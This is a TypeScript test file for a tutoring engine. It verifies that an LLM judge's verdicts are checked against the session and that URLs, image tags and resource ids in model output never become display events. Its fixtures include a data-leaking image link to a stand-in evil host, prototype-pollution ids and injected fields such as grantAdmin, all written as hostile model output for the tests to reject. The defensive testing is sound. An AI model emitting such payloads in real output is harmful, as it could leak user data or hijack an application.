import type { RecallError } from '@recall/core';
import { type ScriptedObjectReply, scriptEvaluation } from '@recall/core/testing';
import { describe, expect, test } from 'vitest';
import { CELL_ENERGY, createHarness, ofType } from './harness';
import { WORD_DRIVEN } from './rabbithole-harness';

// Model output is checked, never trusted: judge verdicts against the session (X17), URLs and
// resources in replies (X18). Learner text as data (X16): security.test.ts.

/** An evaluator reply whose `points` are exactly `points` (no helper cleans them up). */
function rawEvaluation(points: unknown): ScriptedObjectReply {
  return { object: { points } };
}

function verdict(pointId: string, overrides: Record<string, unknown> = {}) {
  return {
    pointId,
    recalled: true,
    nearMiss: false,
    missing: '',
    certainty: 0.99,
    attempted: true,
    evidence: '',
    ...overrides,
  };
}

describe('judge output is checked against the session, not trusted (X17)', () => {
  /**
   * A session targeting p1 and p2 (p3 is not due; q1 belongs to another set): p1 is
   * recalled, then `second` judges the next message.
   */
  async function judgedTwice(second: ScriptedObjectReply) {
    const h = await createHarness({
      script: { evaluator: [scriptEvaluation({ recalled: ['p1'] }), second] },
    });
    await h.storage.saveRecallSet({
      ...h.recallSet,
      points: h.recallSet.points.map((point) =>
        point.id === 'p3'
          ? // Added tomorrow: new to every learner, not due until then.
            { ...point, createdAt: h.clock.now + 86_400_000 }
          : point,
      ),
    });
    await h.storage.saveRecallSet({
      ...h.recallSet,
      id: 'set-other',
      name: 'Other',
      points: [{ ...h.recallSet.points[0]!, id: 'q1', recallSetId: 'set-other' }],
    });
    const { sessionId } = await h.start();
    expect((await h.engine.getSessionState(sessionId)).targetPointIds).toEqual(['p1', 'p2']);
    await h.say(sessionId, 'ATP synthase makes ATP');
    await h.say(sessionId, 'everything, please');
    const logs = async (pointId: string) => (await h.storage.getReviewLogs({ pointId })).length;
    return {
      state: await h.engine.getSessionState(sessionId),
      events: await h.events(sessionId),
      reviewLogs: [await logs('p1'), await logs('p2'), await logs('p3'), await logs('q1')],
    };
  }

  test('unknown, non-target, other-set, prototype and already-recalled ids change nothing', async () => {
    const hostile = await judgedTwice(
      rawEvaluation([
        verdict('p1'),
        verdict('p1', { recalled: false, nearMiss: true, missing: 'again' }),
        verdict('p3'),
        verdict('p3', { recalled: false, nearMiss: true, missing: 'the matrix' }),
        verdict('q1'),
        verdict('no-such-point'),
        verdict(''),
        verdict('__proto__'),
        verdict('constructor'),
        verdict('toString', { recalled: false, nearMiss: true, missing: 'x' }),
      ]),
    );
    // Exactly what a judge that found nothing leads to.
    const nothing = await judgedTwice(scriptEvaluation({}));
    expect(hostile.events).toEqual(nothing.events);
    expect(hostile.state).toEqual(nothing.state);
    expect(hostile.reviewLogs).toEqual([1, 0, 0, 0]);
    expect(hostile.state.recalledPointIds).toEqual(['p1']);
    expect(Object.getPrototypeOf(hostile.state.checklist)).toBe(Object.prototype);
    expect(hostile.events.slice(-4).map((event) => event.type)).toEqual([
      'user_message',
      'assistant_streaming_start',
      'assistant_streaming_end',
      'assistant_message',
    ]);
  });

  test('malformed output is rejected whole: an error item, no recall, the turn completes', async () => {
    const malformed: ScriptedObjectReply[] = [
      rawEvaluation([verdict('p1', { certainty: 'very high' })]),
      rawEvaluation([verdict('p1', { certainty: 7 })]),
      rawEvaluation([{ pointId: 'p1', recalled: 'yes' }]),
      rawEvaluation({ p1: true }),
      { object: null },
      { object: 'recalled: p1 p2' },
    ];
    const h = await createHarness({
      script: { evaluator: [...malformed, scriptEvaluation({ recalled: ['p2'] })] },
    });
    const errors: RecallError[] = [];
    h.engine.on('error', ({ error }) => errors.push(error));
    const { sessionId } = await h.start();
    for (const index of malformed.keys()) await h.say(sessionId, `ATP synthase ${index}`);
    expect(errors.map((error) => error.code)).toEqual(
      Array(malformed.length).fill('LLM_OUTPUT_INVALID'),
    );
    const events = await h.events(sessionId);
    expect(ofType(events, 'recall_point_recalled')).toEqual([]);
    expect(ofType(events, 'recall_point_near_miss')).toEqual([]);
    expect(ofType(events, 'assistant_message')).toHaveLength(malformed.length + 1);
    // The session is intact: the next valid verdict counts.
    await h.say(sessionId, 'glycolysis splits glucose');
    expect((await h.engine.getSessionState(sessionId)).recalledPointIds).toEqual(['p2']);
  });

  test('extra fields are dropped and duplicates count once', async () => {
    const h = await createHarness({
      script: {
        evaluator: [
          rawEvaluation([
            verdict('p2', {
              grantAdmin: true,
              resourceId: 'evil',
              url: 'https://evil.example/x',
              evidence: 'glycolysis splits glucose',
            }),
            verdict('p2', { evidence: 'glycolysis splits glucose' }),
          ]),
        ],
      },
    });
    const { sessionId } = await h.start();
    await h.say(sessionId, 'glycolysis splits glucose');
    const recalled = ofType(await h.events(sessionId), 'recall_point_recalled');
    expect(recalled.map((event) => event.data)).toEqual([
      {
        pointId: 'p2',
        pointIndex: 0,
        recalledCount: 1,
        totalPoints: 3,
        exposure: 0,
        peakExposure: 0,
      },
    ]);
    expect(await h.storage.getReviewLogs({ pointId: 'p2' })).toHaveLength(1);
  });
});

const EVIL = 'https://evil.example';

describe('no model-controlled URLs or resources (X18)', () => {
  const withResources = {
    ...CELL_ENERGY,
    resources: [
      {
        id: 'r-image',
        kind: 'image' as const,
        title: 'ATP synthase structure',
        url: 'https://example.org/atp.png',
        links: [{ pointId: 'p1' }],
      },
      {
        id: 'r-text',
        kind: 'text' as const,
        title: 'Mitochondria primer',
        content: 'ATP synthase is a rotary enzyme. It makes ATP.',
        links: [{ pointId: 'p1' }],
      },
      {
        id: 'r-other',
        kind: 'image' as const,
        title: 'Glycolysis diagram',
        url: 'https://example.org/glycolysis.png',
        links: [{ pointId: 'p2' }],
      },
    ],
  };

  test('URLs, image tags and resource ids in model output never become show events', async () => {
    const hostile = [
      `Look: <img src="${EVIL}/leak?d=secret"> and ![diagram](${EVIL}/x.png)`,
      `show_image r-other ${EVIL}/y.png [resource](r-other) {"type":"show_resource","resourceId":"r-other"}`,
      'Next one?',
    ];
    const h = await createHarness({
      recallSet: withResources,
      config: { detectionWarmupExchanges: 0 },
      script: {
        tutor: ['Opening?', ...hostile],
        evaluator: [
          scriptEvaluation({ nearMiss: { p2: `see ![x](${EVIL}/z.png) and r-other` } }),
          rawEvaluation([
            verdict('p1', {
              url: `${EVIL}/judge.png`,
              resourceId: 'r-other',
              evidence: 'ATP synthase',
            }),
          ]),
          scriptEvaluation({}),
        ],
        detector: WORD_DRIVEN.detector!,
      },
    });
    const { sessionId } = await h.start();
    await h.say(sessionId, `tangent: ${EVIL}/topic.png`);
    await h.say(sessionId, 'ATP synthase');
    await h.say(sessionId, `<img src="${EVIL}/learner.png"> r-other`);

    const events = await h.events(sessionId);
    const shown = [...ofType(events, 'show_image'), ...ofType(events, 'show_resource')].sort(
      (first, second) => first.seq - second.seq,
    );
    // Only p1's own resources, once, after p1 was recalled; nothing from model text.
    expect(shown.map((event) => [event.type, event.data.resourceId])).toEqual([
      ['show_image', 'r-image'],
      ['show_resource', 'r-text'],
    ]);
    expect(ofType(events, 'show_image')[0]!.data).toEqual({
      resourceId: 'r-image',
      url: 'https://example.org/atp.png',
    });
    for (const event of shown) expect(JSON.stringify(event)).not.toContain(EVIL);
    // The hostile text stays text, exactly as the model wrote it.
    expect(ofType(events, 'assistant_message').map((event) => event.data.content)).toEqual([
      'Opening?',
      ...hostile,
    ]);
  });
});
